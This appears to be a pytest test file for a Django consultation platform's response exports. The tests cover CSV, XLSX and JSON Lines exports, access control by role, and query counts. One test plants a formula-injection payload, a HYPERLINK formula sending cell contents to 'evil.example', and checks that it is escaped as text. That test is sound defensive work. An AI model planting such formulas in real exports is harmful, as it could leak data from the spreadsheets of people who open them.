"""Analysts export a version's counted responses as CSV, XLSX and JSON Lines: one row per
response, one column per question, no e-mail addresses; nobody else may."""

import csv
import io
import json
from collections.abc import Callable

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.http.response import HttpResponseBase
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from parley.accounts.models import User
from parley.consultations.models import Response
from parley.guidance.models import Version
from parley.organisations.models import Organisation
from tests.consultations.exporting import bulk_responses, make_analyst, respond


@pytest.fixture
def analyst(organisation: Organisation) -> User:
    return make_analyst(organisation)


def export_url(version: Version, fmt: str) -> str:
    return reverse("consultations:export", args=[version.document.slug, version.number, fmt])


def api_url(version: Version, fmt: str) -> str:
    return f"/api/v1/documents/{version.document.slug}/versions/{version.number}/responses.{fmt}"


def content(response: HttpResponseBase) -> bytes:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content)  # type: ignore[arg-type]


def body(response: HttpResponseBase) -> str:
    assert isinstance(response, StreamingHttpResponse)
    return content(response).decode()


def csv_rows(response: HttpResponseBase) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body(response))))


HEADER = [
    "reference",
    "submitted_at",
    "respondent_type",
    "organisation",
    "respondent_name",
    "consent",
    "channel",
    "Q1. Do the principles help you?",
    "Q2. Where do you take part?",
    "Q3. The principles are clear.",
    "Q4. What would you change?",
    "Q5. Which clause matters most to you?",
    "received_at",
    "files",
    "files_text",
]


def test_the_csv_has_a_row_per_response_and_a_column_per_question_without_e_mail(
    open_version: Version, analyst: User, signed_in: Callable[[User], Client]
) -> None:
    first = respond(open_version, 1, "confidential")
    respond(open_version, 2, "named", organisation="Friends of the Park")
    response = signed_in(analyst).get(export_url(open_version, "csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="{open_version.document.slug}-v1-responses.csv"'
    )
    assert response["Cache-Control"] == "private, no-store"
    header, one, two = csv_rows(response)
    assert header == HEADER
    assert one[0] == first.reference
    assert one[2:] == [
        "individual",
        "",
        "Person 1",
        "confidential",  # counted, so exported to analysts
        "online",
        "Yes",
        "Blogs; Video",
        "Agree",
        "Shorter, please.",
        "2",
        "",
        "",
        "",
    ]
    assert two[2:4] == ["organisation", "Friends of the Park"]
    assert "@example.net" not in body(signed_in(analyst).get(export_url(open_version, "csv")))


def test_demographic_answers_get_a_column_each_only_when_someone_gave_them(
    open_version: Version, analyst: User, signed_in: Callable[[User], Client]
) -> None:
    client = signed_in(analyst)
    first = respond(open_version, 1)
    respond(open_version, 2)
    assert csv_rows(client.get(export_url(open_version, "csv")))[0] == HEADER
    Response.objects.filter(pk=first.pk).update(
        demographics={"age": "35-44", "languages": ["Welsh", "English"], "unused": ""}
    )
    header, one, two = csv_rows(client.get(export_url(open_version, "csv")))
    assert header[-5:] == [
        "demographic: age",
        "demographic: languages",
        "received_at",
        "files",
        "files_text",
    ]
    assert one[-5:-3] == ["35-44", "Welsh; English"]
    assert two[-5:-3] == ["", ""]


def test_the_xlsx_has_the_same_table(
    open_version: Version, analyst: User, signed_in: Callable[[User], Client]
) -> None:
    respond(open_version, 1, "anonymous")
    response = signed_in(analyst).get(export_url(open_version, "xlsx"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(content(response))).active
    assert sheet is not None
    rows = [[cell or "" for cell in row] for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == HEADER
    assert rows[1][4:] == [
        "Person 1",
        "anonymous",
        "online",
        "Yes",
        "Blogs; Video",
        "Agree",
        "Shorter, please.",
        "2",
        "",
        "",
        "",
    ]


def test_json_lines_keep_answers_as_stored_by_question_number(
    open_version: Version, analyst: User, signed_in: Callable[[User], Client]
) -> None:
    made = respond(open_version, 1, "named")
    response = signed_in(analyst).get(export_url(open_version, "jsonl"))
    assert response["Content-Type"] == "application/jsonl; charset=utf-8"
    [line] = body(response).splitlines()
    record = json.loads(line)
    assert record["reference"] == made.reference
    assert record["respondent_name"] == "Person 1"
    assert record["answers"] == {
        "1": "Yes",
        "2": ["Blogs", "Video"],
        "3": "agree",
        "4": "Shorter, please.",
        "5": "2",
    }
    assert record["demographics"] == {}
    assert (record["received_at"], record["files"], record["files_text"]) == (None, [], "")
    assert list(record)[-5:] == ["answers", "demographics", "received_at", "files", "files_text"]
    assert "email" not in record


def test_formulas_in_names_and_answers_stay_text_in_csv_and_xlsx(
    open_version: Version, analyst: User, signed_in: Callable[[User], Client]
) -> None:
    client = signed_in(analyst)
    evil = '=HYPERLINK("http://evil.example/?"&A1)'
    made = respond(open_version, 1, organisation=evil)
    made.answers.filter(question__number=4).update(text="@SUM(1+1)\x07")
    Response.objects.filter(pk=made.pk).update(demographics={"age": "-1+2"})
    row = csv_rows(client.get(export_url(open_version, "csv")))[1]
    assert row[3] == "'" + evil
    assert row[-6] == "'@SUM(1+1)\x07"
    assert row[-4] == "'-1+2"
    xlsx = client.get(export_url(open_version, "xlsx"))
    sheet = load_workbook(io.BytesIO(content(xlsx))).active
    assert sheet is not None
    cells = [cell.value for cell in sheet[2]]
    assert cells[3] == "'" + evil
    assert cells[-6] == "'@SUM(1+1)"  # a control character openpyxl refuses is dropped
    assert cells[-4] == "'-1+2"
    assert all(cell.data_type != "f" for cell in sheet[2])


@pytest.mark.parametrize("who", ["editor", "admin_user"])
def test_editors_and_site_staff_export_too(
    open_version: Version, who: str, request: pytest.FixtureRequest, client: Client
) -> None:
    respond(open_version, 1)
    client.force_login(request.getfixturevalue(who))
    for fmt in ("csv", "xlsx", "jsonl"):
        response = client.get(export_url(open_version, fmt))
        assert response.status_code == 200
        assert content(response)


@pytest.mark.parametrize("who", ["anonymous", "participant", "moderator", "other_moderator"])
def test_nobody_else_exports_responses(
    open_version: Version, who: str, request: pytest.FixtureRequest, client: Client
) -> None:
    respond(open_version, 1, "named")
    if who != "anonymous":
        client.force_login(request.getfixturevalue(who))
    for fmt in ("csv", "xlsx", "jsonl"):
        response = client.get(export_url(open_version, fmt))
        assert response.status_code == 403
        assert b"Person 1" not in response.content


def test_an_analyst_of_another_organisation_is_refused(
    open_version: Version, other_organisation: Organisation, client: Client
) -> None:
    respond(open_version, 1)
    client.force_login(make_analyst(other_organisation))
    assert client.get(export_url(open_version, "csv")).status_code == 403
    assert client.get(api_url(open_version, "csv")).status_code == 403


def test_an_unknown_format_or_version_is_not_found(
    open_version: Version, analyst: User, signed_in: Callable[[User], Client]
) -> None:
    client = signed_in(analyst)
    assert client.get(export_url(open_version, "pdf")).status_code == 404
    missing = reverse("consultations:export", args=[open_version.document.slug, 9, "csv"])
    assert client.get(missing).status_code == 404


def test_the_csv_streams_a_thousand_responses_in_the_queries_of_ten(
    open_version: Version, analyst: User, signed_in: Callable[[User], Client]
) -> None:
    client = signed_in(analyst)
    bulk_responses(open_version, 10)
    client.get(export_url(open_version, "csv"))  # the session and the caches are warm
    with CaptureQueriesContext(connection) as few:
        assert len(csv_rows(client.get(export_url(open_version, "csv")))) == 11
    Response.objects.filter(version=open_version).delete()
    bulk_responses(open_version, 1000)
    with CaptureQueriesContext(connection) as many:
        response = client.get(export_url(open_version, "csv"))
        assert isinstance(response, StreamingHttpResponse)
        lines = list(response.streaming_content)
    assert len(lines) == 1001  # the header, then a line per response, each as it is written
    assert len(many) == len(few)


@pytest.mark.parametrize("fmt", ["xlsx", "jsonl"])
def test_the_other_formats_cost_the_same_queries_for_ten_responses_or_a_thousand(
    open_version: Version, analyst: User, signed_in: Callable[[User], Client], fmt: str
) -> None:
    client = signed_in(analyst)
    bulk_responses(open_version, 10)
    content(client.get(export_url(open_version, fmt)))
    with CaptureQueriesContext(connection) as few:
        content(client.get(export_url(open_version, fmt)))
    Response.objects.filter(version=open_version).delete()
    bulk_responses(open_version, 1000)
    with CaptureQueriesContext(connection) as many:
        content(client.get(export_url(open_version, fmt)))
    assert len(many) == len(few)


def test_the_responses_page_links_to_every_export(
    open_version: Version, analyst: User, signed_in: Callable[[User], Client]
) -> None:
    page = signed_in(analyst).get(
        reverse("consultations:responses", args=[open_version.document.slug, 1])
    )
    html = page.content.decode()
    for fmt in ("csv", "xlsx", "jsonl"):
        assert f'href="{export_url(open_version, fmt)}"' in html
    assert f'href="{api_url(open_version, "consult.json")}"' in html
    assert reverse("consultations:contact_export", args=[open_version.document.slug, 1]) in html


def test_the_api_exports_for_analysts_with_a_token(
    open_version: Version, analyst: User, participant: User, token_for: Callable[[User], str]
) -> None:
    respond(open_version, 1)
    analyst_client = Client(headers={"Authorization": f"Bearer {token_for(analyst)}"})
    csv_response = analyst_client.get(api_url(open_version, "csv"))
    assert csv_response.status_code == 200
    assert csv_rows(csv_response)[0] == HEADER
    xlsx = analyst_client.get(api_url(open_version, "xlsx"))
    assert xlsx.status_code == 200
    assert content(xlsx).startswith(b"PK")
    [line] = body(analyst_client.get(api_url(open_version, "jsonl"))).splitlines()
    assert json.loads(line)["respondent_name"] == "Person 1"
    other = Client(headers={"Authorization": f"Bearer {token_for(participant)}"})
    for fmt in ("csv", "xlsx", "jsonl", "consult.json"):
        assert other.get(api_url(open_version, fmt)).status_code == 403
        assert Client().get(api_url(open_version, fmt)).status_code == 403
